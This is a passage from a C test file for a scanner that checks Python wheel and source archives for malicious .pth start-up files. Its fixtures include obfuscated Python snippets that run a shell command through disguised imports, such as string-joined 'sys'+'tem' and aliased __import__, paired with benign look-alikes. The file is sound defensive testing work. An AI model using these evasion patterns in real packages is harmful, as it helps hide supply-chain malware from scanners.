	{IMPORT_P, {{"payload.py", "import platform\nplatform.subprocess.run('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "import os\ngetattr("
	    "1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and 1 and "
	    "os, 'sys' + 'tem')('id')\n"}}, L(PTH_EXEC)},
	/* what imports, by another name */
	{IMPORT_P, {{"payload.py", "from importlib import import_module as i\ni('sub' + 'process').run('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "from importlib import import_module as i\ni('subprocess').run('id')\n"}}, L(PTH_PROCESS)},
	{IMPORT_P, {{"payload.py", "i = __import__\ni('subprocess').run('id')\n"}}, L(PTH_EXEC)},
	{IMPORT_P, {{"payload.py", "import importlib\nimportlib.import_module('subprocess').run('id')\n"}}, L(PTH_PROCESS)},
}, imported_good[] = {
	{IMPORT_P, {{"payload.py", "import os, subprocess\ndef f():\n    subprocess.run('id')\n    exec('1')\n"}}, 0},
	{IMPORT_P, {{"payload.py", "\"\"\"Never does os.system('x'), and reads no ~/.ssh.\"\"\"\nimport sys\n"}}, 0},
	{IMPORT_P, {{"payload/__init__.py", "from .core import thing\n"}, {"payload/core.py", "import socket\nname = socket.gethostname()\ndef thing(): pass\n"
	    "def main():\n    import subprocess; subprocess.call('x')\n"}}, 0},
	{IMPORT_P, {{"payload.py", "import re, platform\nx = re.compile('a')\ny = platform.system()\n"}}, 0},
	{IMPORT_P, {{"payload.py", "import sys\nclass F:\n    def find_spec(self, name, path, target=None):\n        m = getattr(self, 'for_' + name, None)\n"
	    "        return m and m()\ndef install():\n    sys.meta_path.insert(0, F())\ninstall()\n"}}, 0},
	{IMPORT_P, {{"payload.py", "# -*- coding: latin-1 -*-\nx = 1\n"}}, 0},
	{IMPORT_P, {{"payload.py", "# -*- coding: gbk -*-\nx = 1\n"}}, 0},
	{IMPORT_P, {{"payload.py", "# \xef\xbd\x85\nn\xc3\xa4me = \xd0\xb8 = '\xef\xbd\x85'\n"}}, 0},
	{IMPORT_P, {{"payload.py", "import subprocess as s\nx = f\"{x!r:>{w}} {{s.run('id')}} \\N{LATIN SMALL LETTER A}\" f'{1:#x}'\n"}}, 0},
	{IMPORT_P, {{"payload.py", "from importlib import import_module\nx = import_module('json').loads('1')\n"}}, 0},
	{IMPORT_P, {{"payload.py", ""}, {"__pycache__/payload.cpython-311.pyc", "\xa7\x0d\x0d\x0a\4...a time, a size"}}, 0},
	{IMPORT_P, {{"payload.py", ""}, {"other.py", "exec('1')\n"}, {"pkg/deep/payload.py", "exec('1')\n"}}, 0},
	{"import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b'));m = sys.modules.setdefault('a.b', types.ModuleType('a.b'));"
	    "m and setattr(sys.modules['a'], 'b', m)\n", {{"a/b/c.py", "exec('1')\n"}}, 0},
};

static unsigned
check_imported(const struct imported *t, int format, int filter, bool pth_last)
{
	struct member m[5];
	struct buf b = {0};
	size_t n = !pth_last, files;
	unsigned layers;

	for (size_t i = 0; i < 4 && t->m[i].name != NULL; i++)
		m[n++] = (struct member){t->m[i].name, t->m[i].data, strlen(t->m[i].data)};
	m[pth_last ? n : 0] = (struct member){"x.pth", t->pth, strlen(t->pth)};
	pack(&b, format, filter, m, n + pth_last);
	layers = check_archive("x-1.whl", &b, NULL, &files);
	buf_free(&b);
	return layers;
}

static void
test_imported(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(imported_bad) / sizeof(*imported_bad); i++)
		for (int last = 0; last < 2; last++) {
			const struct imported *t = &imported_bad[i];
			unsigned z = check_imported(t, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, last);
			unsigned g = check_imported(t, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, last);
			unsigned want = t->layers | L(PTH_START);

			if ((z & want) != want || (g & want) != want)
				fail_msg("%zu: %s: layers %x, %x, not %x", i, t->m[0].data, z, g, want);
		}
	for (size_t i = 0; i < sizeof(imported_good) / sizeof(*imported_good); i++) {
		unsigned z = check_imported(&imported_good[i], ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, true);

		if (z != 0)
			fail_msg("good %zu: %s: layers %x", i, imported_good[i].m[0].data, z);
	}
}

/* What a start-up file imports and the package doesn't have is told, and no more. */
static void
test_imported_elsewhere(void **state)
{
	const struct imported t = {"import other_package\n", {{"payload.py", "exec('1')\n"}}, 0};
	const struct imported own = {"import sys, json.decoder\n", {{"payload.py", "exec('1')\n"}}, 0};

	(void)state;
	assert_int_equal(check_imported(&t, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, true), L(PTH_UNREADABLE));
	assert_int_equal(check_imported(&own, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, true), 0);
}

/* The package that holds the wheel has modules of its own, and none of them is the wheel's. */
static void
test_imported_nested(void **state)
{
	const struct member in[] = {MEMBER("x.pth", IMPORT_P), MEMBER("payload.py", "exec('1')\n")}, fine[] = {MEMBER("x.pth", IMPORT_P), MEMBER("payload.py", "")};
	struct buf b = {0}, out = {0};
	size_t files;

	(void)state;
	for (int evil = 0; evil < 2; evil++) {
		struct member m[2] = {{"v/a.whl", NULL, 0}, MEMBER("payload.py", "exec('not this one')\n")};

		buf_clear(&b);
		buf_clear(&out);
		pack(&b, ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, evil ? in : fine, 2);
		m[0].data = buf_ptr(&b);
		m[0].len = buf_len(&b);
		pack(&out, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, m, 2);
		assert_int_equal(check_archive("p-1.0.tar.gz", &out, NULL, &files), evil ? L(PTH_START) | L(PTH_EXEC) : 0);
	}
	buf_free(&b);
	buf_free(&out);
}

/* Sources made to be slow: chains of calls, classes in classes, names that are all the same; half a megabyte each.  "#" is a number, "$" the next. */
static void
test_imported_time(void **state)
{
	static const char *const pieces[] = {"class a:", "class a:\n", "def a(): a()\n", "a\n", "import a as b\n", "b;", ";class a (", "(:class a ", "def a(x=(", "@a\n",
		"f'{f\"{", "'''", "x[", "from a import *\n", "getattr(os,'a'+", "__import__('a');", "class a(a):\n def a(): a\n", "def f#(): f$()\n", "def f$(): f#()\n",
		"import m# as m#\n", "from .m# import *\n", "import m# as a;a\n", "\\\n", "__import__('m#');", "import os,", "class a#(a$):\n def b(): a#\n", "{'", "f'{", "#\r"};
	size_t cap = 500000, files;
	char *big = malloc(cap + 200);

	(void)state;
	assert_non_null(big);
	for (size_t k = 0; k < sizeof(pieces) / sizeof(*pieces); k++) {
		struct member m[2] = {MEMBER("x.pth", IMPORT_P), {"payload.py", big, 0}};
		struct buf b = {0};
		struct timespec t0, t1;
		double s;

		for (unsigned i = 0; m[1].len < cap; i++)
			for (const char *p = pieces[k]; *p != '\0'; p++)
				if ((*p == '#' && p[1] != '\r') || *p == '$')
					m[1].len += (size_t)sprintf(big + m[1].len, "%u", i + (*p == '$'));
				else
					big[m[1].len++] = *p;
		pack(&b, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, m, 2);
		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t0);
		check_archive("x.whl", &b, NULL, &files);
		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t1);
		s = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
		if (getenv("SHOW") != NULL)
			fprintf(stderr, "%.3f s: %s\n", s, pieces[k]);
		if (s > 10)	/* of a sanitizer, too; a square of it takes minutes */
			fail_msg("%.1f s: %s", s, pieces[k]);
		buf_free(&b);
	}
	free(big);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_imported),
		cmocka_unit_test(test_imported_elsewhere),
		cmocka_unit_test(test_imported_nested),
		cmocka_unit_test(test_imported_time),
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_attack_encodings),
		cmocka_unit_test(test_legitimate),
		cmocka_unit_test(test_debian),
		cmocka_unit_test(test_customize),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_archives),
		cmocka_unit_test(test_archive_limits),
		cmocka_unit_test(test_packed_alone),
		cmocka_unit_test(test_utf8_names),
		cmocka_unit_test(test_zip_directory),
		cmocka_unit_test(test_zip_doubts),
		cmocka_unit_test(test_zip_two_ends),
		cmocka_unit_test(test_two_archives),
		cmocka_unit_test(test_nested_broken),
		cmocka_unit_test(test_unreadable),
		cmocka_unit_test(test_stored),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
